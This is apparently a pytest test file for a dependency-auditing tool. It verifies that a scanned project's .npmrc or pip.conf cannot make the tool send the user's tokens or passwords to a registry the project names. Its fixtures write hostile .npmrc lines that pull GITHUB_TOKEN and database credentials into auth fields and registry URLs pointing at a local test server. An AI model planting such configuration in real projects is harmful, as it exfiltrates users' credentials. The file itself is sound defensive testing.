"""A scanned tree's .npmrc (or pip.conf) may name registries, never send the user's secrets.

The attacker is a real HTTP listener on 127.0.0.1: the tree's ``.npmrc`` points every npm
lookup at it and asks for environment variables as credentials. It must receive requests
(the tree may name a registry) but never a secret: not in a header, the URL or a body.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from auditor.registries.config import resolve_npm, resolve_python
from tests.httpserver import HttpTestServer, Reply, Request, json_reply
from tests.registries.support import World
from tests.support import FIXTURES, run_cli

GITHUB_TOKEN = "ghp-SECRET-github-token-0123456789"  # noqa: S105 - a fake secret
DB_URL = "postgresql+psycopg://auditor:db-SECRET-password@db.invalid/auditor"
ADVISORIES = FIXTURES / "advisories" / "npm"

LOCK = {
    "name": "victim",
    "version": "1.0.0",
    "lockfileVersion": 3,
    "requires": True,
    "packages": {
        "": {"name": "victim", "version": "1.0.0", "dependencies": {"left-pad": "1.3.0"}},
        "node_modules/left-pad": {
            "version": "1.3.0",
            "resolved": "https://npm-registry.invalid/left-pad/-/left-pad-1.3.0.tgz",
        },
        "node_modules/@evil/x": {
            "version": "1.0.0",
            "resolved": "https://npm-registry.invalid/@evil/x/-/x-1.0.0.tgz",
        },
    },
}


def _packument(request: Request) -> Reply:
    name = request.path.strip("/").replace("%2F", "/").replace("%2f", "/").split("/")[-1]
    return json_reply(
        {
            "name": name,
            "versions": {"1.3.0": {"version": "1.3.0"}, "1.0.0": {"version": "1.0.0"}},
            "time": {"1.3.0": "2020-01-01T00:00:00Z", "1.0.0": "2020-01-01T00:00:00Z"},
            "dist-tags": {"latest": "1.3.0"},
        }
    )


@pytest.fixture
def victim(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A user whose environment holds secrets, and nothing of the machine's configuration."""
    for name in list(os.environ):
        if name.startswith(("AUDITOR_", "PIP_", "UV_", "GO")) or name.lower().startswith(
            "npm_config_"
        ):
            monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))  # no npm, no go
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    monkeypatch.setenv("AUDITOR_NO_HTTP_CACHE", "1")
    monkeypatch.setenv("GITHUB_TOKEN", GITHUB_TOKEN)
    monkeypatch.setenv("AUDITOR_DB", DB_URL)
    monkeypatch.setenv("npm_config_globalconfig", str(tmp_path / "none"))
    (tmp_path / "home").mkdir()
    project = tmp_path / "project"
    project.mkdir()
    (project / "package-lock.json").write_text(json.dumps(LOCK))
    return project


def _leaks(requests: list[Request], secrets: list[str]) -> list[str]:
    found = []
    for request in requests:
        blob = request.target + "\n" + json.dumps(request.headers) + "\n"
        blob += request.body.decode("latin-1")
        found += [f"{request.method} {request.path}: {s}" for s in secrets if s in blob]
    return found


def test_tree_npmrc_names_a_registry_but_gets_no_secret(
    victim: Path, http_server: HttpTestServer
) -> None:
    """Every npm lookup goes to the registry the tree names, with no credential at all."""
    attacker = http_server.url.replace("http://", "//")
    http_server.route("GET", "/*", _packument)
    (victim / ".npmrc").write_text(
        f"registry={http_server.url}/\n"
        f"{attacker}/:_authToken=${{GITHUB_TOKEN}}\n"
        f"{attacker}/:_auth=${{AUDITOR_DB}}\n"
        f"@evil:registry={http_server.url}/${{GITHUB_TOKEN}}/\n"
        f"{attacker}/:username=${{GITHUB_TOKEN}}\n"
        f"{attacker}/:_password=${{AUDITOR_DB}}\n"
        f"{attacker}/:always-auth=true\n"
    )
    result = run_cli(["scan", "--json", "--advisory-db", str(ADVISORIES), str(victim)])
    assert {"/left-pad", "/@evil%2Fx"} <= {r.path for r in http_server.requests}, result.err
    assert [] == _leaks(http_server.requests, [GITHUB_TOKEN, "db-SECRET-password", "SECRET"])
    assert all(r.header("authorization") is None for r in http_server.requests)
    assert "named by the scanned tree (registry)" in result.err
    assert ".npmrc:2: credentials in the scanned tree's .npmrc ignored" in result.err
    assert ".npmrc:4: environment variables are not expanded" in result.err
    assert GITHUB_TOKEN not in result.out + result.err


def test_tree_literal_credentials_are_not_attached(
    victim: Path, http_server: HttpTestServer
) -> None:
    """A token written into the tree's .npmrc, or into its registry URL, is not sent."""
    attacker = http_server.url.replace("http://", "//")
    http_server.route("GET", "/*", _packument)
    host = http_server.url.removeprefix("http://")
    (victim / ".npmrc").write_text(
        f"registry=http://tree-user:tree-SECRET@{host}/\n"
        f"@evil:registry={http_server.url}/?token=tree-SECRET\n"
        f"{attacker}/:_authToken=tree-SECRET\n"
    )
    result = run_cli(["scan", "--json", "--advisory-db", str(ADVISORIES), str(victim)])
    assert [] == _leaks(http_server.requests, ["tree-SECRET", "tree-user"])
    assert "a registry URL with credentials in the scanned tree's .npmrc ignored" in result.err


def test_user_credentials_go_only_to_the_host_the_user_names(
    victim: Path, http_server: HttpTestServer, tmp_path: Path
) -> None:
    """The user's own token reaches the user's registry and nothing else, even when the tree
    redirects npm lookups elsewhere."""
    with HttpTestServer() as users_registry:
        users_registry.route("GET", "/*", _packument)
        http_server.route("GET", "/*", _packument)
        corp = users_registry.url.replace("http://", "//")
        (tmp_path / "home" / ".npmrc").write_text(
            f"registry={users_registry.url}/\n{corp}/:_authToken=${{GITHUB_TOKEN}}\n"
        )
        (victim / ".npmrc").write_text(f"@evil:registry={http_server.url}/\n")
        result = run_cli(["scan", "--json", "--advisory-db", str(ADVISORIES), str(victim)])
        assert ["/@evil%2Fx"] == [r.path for r in http_server.requests], result.err
        assert [] == _leaks(http_server.requests, [GITHUB_TOKEN])
        assert [f"Bearer {GITHUB_TOKEN}"] == [
            r.header("authorization") for r in users_registry.requests
        ]


def test_registries_command_says_what_came_from_the_tree(victim: Path) -> None:
    """`auditor registries` marks the tree's registries and lists what it refused."""
    npmrc = victim / ".npmrc"
    npmrc.write_text(
        "registry=https://tree-mirror.invalid/\n//tree-mirror.invalid/:_authToken=${GITHUB_TOKEN}\n"
    )
    result = run_cli(["registries", "--json", str(victim)])
    doc = json.loads(result.out)
    assert {
        "kind": "registry",
        "value": "https://tree-mirror.invalid/",
        "origin": f"{npmrc}:1, scanned tree",
    } in doc["registries"]["npm"]
    assert [] == [row for row in doc["registries"]["npm"] if row["kind"] == "auth"]
    assert f"{npmrc}:2: credentials in the scanned tree's .npmrc ignored" in doc["notes"]
    assert GITHUB_TOKEN not in result.out + result.err


def test_npm_is_never_asked_inside_the_tree(tmp_path: Path) -> None:
    """The last-resort `npm config get registry` runs outside the scanned tree, where npm
    cannot read (and expand) the tree's .npmrc."""
    world = World(tmp_path)
    world.write("project/.npmrc", "registry=${GITHUB_TOKEN}\n")
    world.tool("npm", f'pwd > "{world.root}/cwd"; echo https://npm-registry.invalid/')
    assert "https://npm-registry.invalid/" == resolve_npm(world.context()).default.url
    assert not (world.root / "cwd").read_text().strip().startswith(str(world.project))


def test_pip_conf_inside_the_tree_names_no_credentials(tmp_path: Path) -> None:
    """A pip.conf found inside the scanned tree (a committed virtual environment) may name an
    index, but an index URL with credentials in it is ignored."""
    world = World(tmp_path)
    world.env["VIRTUAL_ENV"] = str(world.project / ".venv")
    world.write(
        "project/.venv/pip.conf",
        "[global]\nindex-url = https://u:tree-SECRET@tree-index.invalid/simple\n"
        "extra-index-url = https://tree-extra.invalid/simple\n",
    )
    world.env["PIP_INDEX_URL"] = "https://pypi-index.invalid/simple"
    indexes = resolve_python(world.context())
    assert ["https://tree-extra.invalid/simple"] == [u.url for u in indexes.extra]
    assert [True] == [u.tree for u in indexes.extra]
    del world.env["PIP_INDEX_URL"]
    assert "tree-SECRET" not in resolve_python(world.context()).index.url
